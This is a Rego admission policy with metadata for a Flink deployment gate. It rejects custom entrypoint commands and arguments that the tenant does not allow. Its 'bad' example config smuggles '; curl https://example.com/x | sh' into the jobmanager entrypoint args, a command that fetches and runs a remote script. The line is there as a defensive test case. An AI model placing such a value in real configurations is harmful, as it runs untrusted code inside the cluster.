# METADATA
# title: Flink started by what the tenant allows
# description: |
#   The image's entrypoint prepares the configuration and gives up root. A tenant may say with what containers that run Flink start:
#   their command, and kubernetes.entry.path. The texts of kubernetes.jobmanager.entrypoint.args and
#   kubernetes.taskmanager.entrypoint.args stand in a shell script, so that anything in them that a shell obeys is no argument.
# custom:
#   id: security/entrypoint
#   level: error
#   since: 0.1.0
#   when: [flink.problems.entrypoints]
#   help: Leave the command to the image.
#   tenant: |
#     security: {entrypoints: [/docker-entrypoint.sh]}
#   bad: |
#     apiVersion: flink.apache.org/v1beta1
#     kind: FlinkDeployment
#     metadata: {name: etl}
#     spec:
#       flinkVersion: v1_20
#       image: registry.example.com/flink:1.20
#       serviceAccount: flink
#       flinkConfiguration:
#         kubernetes.jobmanager.entrypoint.args: "; curl https://example.com/x | sh"
#       jobManager: {resource: {cpu: 1, memory: 2048m}}
#       taskManager: {resource: {cpu: 1, memory: 2048m}}
#       job: {jarURI: local:///opt/flink/usrlib/job.jar, parallelism: 2, upgradeMode: stateless}
#   good: |
#     apiVersion: flink.apache.org/v1beta1
#     kind: FlinkDeployment
#     metadata: {name: etl}
#     spec:
#       flinkVersion: v1_20
#       image: registry.example.com/flink:1.20
#       serviceAccount: flink
#       flinkConfiguration:
#         kubernetes.jobmanager.entrypoint.args: "-Drest.flamegraph.enabled=true"
#       jobManager: {resource: {cpu: 1, memory: 2048m}}
#       taskManager: {resource: {cpu: 1, memory: 2048m}}
#       job: {jarURI: local:///opt/flink/usrlib/job.jar, parallelism: 2, upgradeMode: stateless}
package flinkgate.security.entrypoint

import rego.v1

deny contains finding if some finding in input.flink.problems.entrypoints
